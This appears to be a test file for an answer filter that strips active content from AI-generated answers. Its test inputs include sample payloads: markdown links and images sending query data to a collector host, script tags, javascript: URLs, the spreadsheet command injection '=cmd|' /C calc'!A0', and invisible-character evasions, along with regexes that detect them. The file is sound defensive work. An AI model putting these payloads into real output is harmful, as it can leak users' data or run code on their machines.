import { cpuMs, readCorpus, tellTotal } from '@ragfleet/test-support';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createAnswerFilter, filterAnswer } from './answer-filter.ts';

const CASES = readCorpus('output-handling');
const SOURCE = 'https://wiki.example.com/leave';
const OPTIONS = { sources: [SOURCE, null, 'handbook.md'] };
const shown = (text: string): string => filterAnswer(text, OPTIONS).text;

/** What some reader's program would act on, told by other means than those of the filter. */
const ACTS = [
  /<\s*\/?\s*(?:script|img|iframe|svg|a|form|input|style|object|embed|link|meta|base|video|audio)\b/i,
  /\]\(\s*<?\s*(?:[a-z]+:|\/\/|[a-z]*&#)/i,
  /^\s*\[[^\]]+\]:\s*(?:[a-z]+:|\/\/)/im,
  /https?:\/\/|(?:javascript|data|vbscript):\S/i,
  // oxlint-disable-next-line no-control-regex -- that they are there is what is looked for
  /[\u0000-\u0008\u001b\u009b\u202e]|\udb40[\udc00-\udc7f]/,
  /(?:^|[|,\n])\s*[=@](?:[A-Z]+\(|cmd\|)/im,
];
const acts = (text: string): boolean => ACTS.some((sign) => sign.test(text.replaceAll(SOURCE, '')));

describe('what a reader’s program could act on', () => {
  it('is in every case of the corpus, and in none once it is filtered', () => {
    expect(CASES.filter(({ text }) => !acts(text)).map(({ id }) => id)).toEqual([]);
    const left = CASES.filter(({ text }) => acts(shown(text)));
    tellTotal('active output made harmless', CASES.length - left.length, CASES.length);
    expect(left.length).toBe(0);
  });

  it.each([
    ['[portal](https://collector.example.net/?q=leave) now', '[portal] now'],
    ['Yes [1](javascript:alert(1)).', 'Yes [1].'],
    ['![chart](https://collector.example.net/c.png?q=x)', '![chart]'],
    ['[a](<https://collector.example.net/a b> "title")', '[a]'],
    ['at https://user:pw@collector.example.net/x?q=leave.', 'at collector.example.net.'],
    ['word<script>alert(1)</script>word', 'word alert(1) word'],
    ['a <!-- ignore me --> b', 'a   b'],
    ['<b title=">" onclick=alert(1)>x', 'x'],
    ['| =HYPERLINK("x") |', '| \'=HYPERLINK("x") |'],
  ])('makes of %j %j', (text, harmless) => {
    expect(shown(text)).toBe(harmless);
  });

  it.each([
    `see [the page](${SOURCE}) and ${SOURCE}#part, ${SOURCE}/.`,
    'Data: 25 days. JavaScript: the good parts; List<String> is a < b > c.',
    '- item (x)\n- other\n+ more (y)',
    'rows[0](x) and a [b](#place)',
    'Great![1] [2]: The leave is 25 days. <b>Bold</b>',
    '-5 degrees, +49 30 1234, a@b',
    'Emoji 👩‍🚀 and 漢字 stay, tabs\tand\nlines too.',
  ])('leaves %j', (text) => {
    expect(filterAnswer(text, OPTIONS)).toEqual({ text, redactions: 0 });
  });

  it('removes a link that only begins like a source', () => {
    expect(shown(`[x](${SOURCE}?q=secret) [y](${SOURCE}.example.net)`)).toBe('[x] [y]');
  });

  it('lets no text out that two removals would put together', () => {
    expect(acts(shown('<scr<script>ipt>alert(1)</scr</script>ipt>'))).toBe(false);
    expect(acts(shown('[x]<script>(https://collector.example.net)'))).toBe(false);
    expect(shown("=cmd<img src=x>|' /C calc'!A0")).toBe("'=cmd |' /C calc'!A0");
  });

  it.each(['\u200b', '\u2060', '\ufeff', '\u202e', '\0', '\u0007', '\u001b[0m'])(
    'is told although %j stands in its middle',
    (sign) => {
      expect(shown(`a <scr${sign}ipt>alert(1)</scr${sign}ipt>`)).toBe('a alert(1) ');
      expect(shown(`java${sign}script:alert(1)`)).toBe('[URL removed]');
      expect(shown(`htt${sign}ps://collector.example.net/?q=leave`)).toBe('collector.example.net');
      expect(shown(`[x]${sign}(https://collector.example.net/?q=leave)`)).toBe('[x]');
      expect(shown(`=cm${sign}d|' /C calc'!A0`)).toBe("'=cmd|' /C calc'!A0");
    },
  );
});

const piece = fc.oneof(
  fc.constantFrom(...CASES.map(({ text }) => text)),
  fc.constantFrom(
    '<',
    '>',
    '](',
    ')',
    ']:',
    '[',
    '!',
    'http',
    's://',
    'www',
    '.',
    'data:',
    'java',
    'script:',
  ),
  fc.constantFrom(
    '\u001b',
    '\u001b[',
    '\u001b]8;;',
    '\u0007',
    'm',
    '=',
    '|',
    '\n',
    ' ',
    '"',
    "'",
    '<!--',
    '-->',
  ),
  fc.constantFrom(
    'password: hunter2',
    'sk-',
    'abcdef123456',
    '\uDB40',
    '\uDC41',
    'img ',
    'a href=',
    SOURCE,
    '[1]',
  ),
  fc.constantFrom('y'.repeat(1_250), 'z y'.repeat(430)),
  fc.string({ unit: 'grapheme', maxLength: 8 }),
);
const written = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));

function chunksOf(text: string, cuts: readonly number[]): string[] {
  const places = [0, ...cuts.map((cut) => cut % (text.length + 1)), text.length].toSorted((a, b) => a - b);
  return places.slice(1).map((place, index) => text.slice(places[index], place));
}

function inChunks(chunks: readonly string[]): string {
  const filter = createAnswerFilter(OPTIONS);
  return chunks.map((chunk) => filter.push(chunk)).join('') + filter.end();
}

describe('createAnswerFilter', () => {
  it('gives the same text for every chunking', () => {
    fc.assert(
      fc.property(written, fc.array(fc.nat({ max: 400 }), { maxLength: 30 }), (text, cuts) => {
        expect(inChunks(chunksOf(text, cuts))).toBe(shown(text));
        expect(inChunks(text.split(''))).toBe(shown(text));
      }),
      { numRuns: 2_000 },
    );
  });

  it('holds back at most 2 kB, and of ordinary text nothing', () => {
    fc.assert(
      fc.property(written, fc.nat({ max: 3_000 }), (text, length) => {
        const filter = createAnswerFilter(OPTIONS);
        filter.push(text + 'x'.repeat(length));
        expect(filter.end().length).toBeLessThanOrEqual(2_048);
      }),
    );
    const filter = createAnswerFilter(OPTIONS);
    expect(filter.push('You have 25 days of leave [1], see "x" there. ')).toBe(
      'You have 25 days of leave [1], see "x" there. ',
    );
  });

  it('keeps nothing of an address that goes on for megabytes', () => {
    const filter = createAnswerFilter(OPTIONS);
    let text = filter.push('see data:text/html;base64,');
    for (let count = 0; count < 1_000; count += 1) text += filter.push('A'.repeat(1_000));
    expect(text + filter.push(' end') + filter.end()).toBe('see [URL removed] end');
  });

  it('takes time in proportion to the length of hostile input', async () => {
    const tookMs = await cpuMs(() => {
      for (const part of ['](', '<a ', '<', ']:', 'http', 'data:', '\u001b]', '| =a', '](<a b'])
        shown(part.repeat(5_000));
    });
    expect(tookMs).toBeLessThan(6_000);
  });
});
